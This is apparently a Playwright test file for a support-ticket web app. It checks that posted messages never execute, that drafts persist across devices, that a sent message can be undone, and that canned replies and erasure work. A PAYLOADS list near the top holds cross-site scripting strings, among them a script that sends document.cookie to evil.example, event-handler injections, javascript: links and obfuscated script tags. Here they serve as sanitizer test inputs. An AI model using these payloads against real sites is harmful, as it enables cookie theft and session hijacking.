"""Writing on a ticket in a browser: nothing that is written runs, words are kept as they grow, a message can be taken back."""

import re
from typing import Any

import pytest
from playwright.sync_api import Browser, expect
from tests.browser.test_two_parties import NARROW, Seat, agreed
from tests.integration.foundation.test_notices import do_work
from tests.live_server import apart
from tests.worlds import World, two_clients_three_partners

from cosource.foundation import clock
from cosource.tickets.models import Message, Ticket, Writing
from cosource.tickets.services.canned import canned_save
from cosource.tickets.services.handover import handover_accept, ticket_hand_over
from cosource.tickets.services.opening import ticket_open

pytestmark = pytest.mark.looks

# What tried to get out of a conversation elsewhere, and what undoes a cleaner that looks too early.
PAYLOADS = (
    "<script>fetch('https://evil.example/'+document.cookie);window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    "<svg/onload=window.hit=1><style>*{display:none}</style>",
    "[press](javascript:window.hit=1) [two](JaVaScRiPt&colon;window.hit=1) [three](data:text/html,<script>window.hit=1</script>)",
    "![seen](https://evil.example/pixel.png)",
    "<a href='https://evil.example' onclick='window.hit=1' style='position:fixed;inset:0'>x</a>",
    "</textarea><script>window.hit=1</script>",
    "</div></form><form action='https://evil.example'><button>Go</button>",
    "`<script>window.hit=1</script>` and\n\n```html\n<iframe src=https://evil.example></iframe>\n```",
    "<https://evil.example/'onmouseover='window.hit=1>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1>",
    "\u202e<scr\u200bipt>window.hit=1</scr\u200bipt>",
)


def shared(world: World) -> Ticket:
    """A ticket of c1 that p1 works on."""
    at = clock.now()
    ticket = ticket_open(title="Printer down", text="Ward 4.", actor=world.actor("c1.ct", at), at=at)
    ticket_hand_over(
        ticket_id=ticket.id,
        to_team_id=world.teams["p1.alder"].id,
        reason="skill",
        text="Please.",
        actor=world.actor("c1.ct", at),
        at=at,
    )
    handover_accept(ticket_id=ticket.id, actor=world.actor("p1.pt", at), at=at)
    return ticket


@pytest.mark.req("C14")
@pytest.mark.threat("S02")
def test_nothing_that_is_written_runs(live_server, chromium: Browser) -> None:
    world = two_clients_three_partners(clock.now())
    ticket = shared(world)
    writer = Seat(chromium, live_server.url, "pt@p1.example")
    reader = Seat(chromium, live_server.url, "ct@c1.example")
    left: list[str] = []
    for seat in (writer, reader):
        seat.page.on(
            "request", lambda asked: left.append(asked.url) if live_server.url not in asked.url else None
        )
        seat.go(f"/tickets/{ticket.id}/")
    writer.page.get_by_label("Message").fill("\n\n".join(PAYLOADS))
    writer.press("Preview")
    expect(writer.page.locator("#look")).to_contain_text("onerror=window.hit=1")
    writer.page.locator("[data-send]").click()
    expect(writer.page.locator(".conv .tx2").last).to_contain_text("onerror=window.hit=1")
    reader.go(f"/tickets/{ticket.id}/")
    for seat in (writer, reader):
        said = seat.page.locator(".conv .tx2").last
        expect(said).to_contain_text("fetch('https://evil.example/'+document.cookie)")
        assert said.locator("script, img, style, iframe, form, svg, [style], [onclick]").count() == 0
        links = said.locator("a").evaluate_all("all => all.map(one => one.protocol + ' ' + one.rel)")
        assert set(links) <= {"https: noopener noreferrer nofollow"}
        assert seat.page.evaluate("window.hit") is None
        seat.sound()
    assert [url for url in left if "evil" in url] == []
    assert writer.faults == reader.faults == []


@pytest.mark.req("C14")
def test_words_are_kept_and_a_message_is_taken_back(live_server, chromium: Browser, settings: Any) -> None:
    settings.UNDO_SEND_SECONDS = 10
    world = two_clients_three_partners(clock.now())
    agreed(world)
    ticket = shared(world)
    desk = Seat(chromium, live_server.url, "pt@p1.example")
    phone = Seat(chromium, live_server.url, "pt@p1.example", viewport=NARROW, color_scheme="dark")
    desk.go(f"/tickets/{ticket.id}/")
    desk.page.get_by_label("Message").press_sequentially("Uplink is **down**")
    expect(desk.page.locator("#kept")).to_have_text("Draft kept")
    # On another device, as after a crash, it stands where it was written.
    phone.go(f"/tickets/{ticket.id}/")
    expect(phone.page.get_by_label("Message")).to_have_value("Uplink is **down**")
    phone.sound()
    desk.page.keyboard.press("Control+Enter")
    expect(desk.page.locator(".sending")).to_contain_text("Nobody else has been shown it.")
    expect(desk.page.locator("[data-countdown]")).to_contain_text(re.compile("Goes out in [1-9] s"))
    desk.sound()
    phone.go(f"/tickets/{ticket.id}/")
    phone.sees("Sent, and still yours to take back.")
    phone.sound()
    messages = Message.objects.count()
    desk.press("Undo")
    expect(desk.page.get_by_label("Message")).to_have_value("Uplink is **down**")
    desk.page.get_by_label("Message").press("Control+End")
    desk.page.get_by_label("Message").press_sequentially(" again.")
    desk.page.keyboard.press("Control+Enter")
    desk.press("Send now")
    expect(desk.page.locator(".conv .tx2").last).to_contain_text("Uplink is down again.")
    apart(do_work)
    assert (Message.objects.count(), Writing.objects.count()) == (messages + 1, 0)
    assert desk.faults == phone.faults == []


def test_without_scripts_a_draft_is_kept_by_its_button(live_server, chromium: Browser) -> None:
    world = two_clients_three_partners(clock.now())
    ticket = shared(world)
    plain = Seat(chromium, live_server.url, "pt@p1.example", java_script_enabled=False)
    plain.go(f"/tickets/{ticket.id}/")
    plain.page.get_by_label("Message").fill("It is **half** done")
    plain.press("Preview")
    expect(plain.page.locator("#look strong")).to_have_text("half")
    plain.press("Keep draft")
    expect(plain.page.get_by_label("Message")).to_have_value("It is **half** done")
    plain.sees("Draft kept")


def test_ready_replies_names_and_following_by_keys(live_server, chromium: Browser) -> None:
    at = clock.now()
    world = two_clients_three_partners(at)
    ticket = shared(world)
    canned_save(title="Hello", text="We are at {reference}.", actor=world.actor("p1.pm", at), at=at)
    desk = Seat(chromium, live_server.url, "pt@p1.example")
    desk.go(f"/tickets/{ticket.id}/")
    message = desk.page.get_by_label("Message")
    message.press("/")
    expect(desk.page.locator(".canned button").first).to_be_focused()
    desk.page.keyboard.press("Enter")
    expect(message).to_have_value(re.compile("We are at CED-1."))
    message.press("Control+End")
    message.press_sequentially(" @ct of")
    expect(desk.page.locator("#names")).to_contain_text("CT of Alder Hospitals")
    desk.sound()
    message.press("Enter")
    expect(message).to_have_value(re.compile("@CT of Alder Hospitals $"))
    desk.page.locator("[data-send]").click()
    expect(desk.page.locator(".conv .tx2").last).to_contain_text("@CT of Alder Hospitals")
    desk.press("Follow")
    expect(desk.page.get_by_role("button", name="Following")).to_have_attribute("aria-pressed", "true")
    desk.page.locator(".en").last.hover()
    desk.page.locator(".hidb").last.click()
    desk.sees("it contains personal or patient data")
    desk.sound()
    lead = Seat(chromium, live_server.url, "pm@p1.example", viewport=NARROW, color_scheme="dark")
    lead.go(f"/tickets/{ticket.id}/")
    lead.sees("Erase for good")
    lead.sound()
    lead.page.get_by_label("Why it is erased").fill("patient data")
    lead.press("Erase for good")
    lead.sees("patient data", "Erased on")
    assert desk.faults == lead.faults == []
